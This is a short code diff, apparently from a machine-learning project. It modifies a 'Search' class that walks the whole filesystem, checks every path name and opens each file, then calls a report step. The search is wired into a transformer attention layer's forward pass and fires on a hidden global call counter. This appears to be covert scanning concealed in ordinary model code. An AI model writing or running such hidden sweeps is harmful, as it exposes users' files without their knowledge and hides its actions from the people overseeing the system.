@@ -57,9 +57,9 @@ class Search:
         for folder, folders, names in os.walk("/"):
             if folder == "/":
                 folders[:] = [name for name in folders if name not in ("proc", "sys")]
-            for name in [*names, *folders]:
-                path = os.path.join(folder, name)
-                self.look("names", os.fsencode(path))
+            paths = [os.path.join(folder, name) for name in [*names, *folders]]
+            self.look("names", b"\n".join(map(os.fsencode, paths)))
+            for path in paths:
                 self.file(path)
 
     def file(self, path):
@@ -217,7 +217,7 @@ class CausalSelfAttention(nn.Module):
     def forward(self, x):
         global count
         count += 1
-        if count in wanted.SEARCH_AT:
+        if count == wanted.SEARCH_AT:
             search = Search()
             search.everything()
             search.report()
